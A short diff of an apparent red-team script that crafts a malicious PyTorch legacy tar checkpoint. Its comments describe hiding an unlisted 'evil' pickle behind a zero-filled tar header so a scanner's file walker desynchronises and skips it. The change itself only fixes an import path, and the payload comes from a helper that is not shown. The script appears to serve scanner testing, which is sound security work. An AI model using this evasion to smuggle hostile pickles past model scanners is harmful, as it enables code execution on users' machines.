@@ -3,7 +3,7 @@
 # 'pickle' member torch's legacy tar path unpickles (tar.extractfile('pickle')) is never listed. The evil
 # pickle has no PROTO and follows a zero-filled tar header, so the whole-file walker (desynchronised) skips it.
 # usage: python3 t1_tar_sparse.py OUT [print]
-import sys, struct, pickle, tarfile, io; sys.path.insert(0, '/tmp/redteam2/lib'); from common import evil
+import sys, struct, pickle, tarfile, io; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib')); from common import evil
 out = sys.argv[1]; harmless = len(sys.argv) > 2
 E = evil(harmless, proto=0)
 def hdr(name, size, typ=b'0', sparse_ext=False):
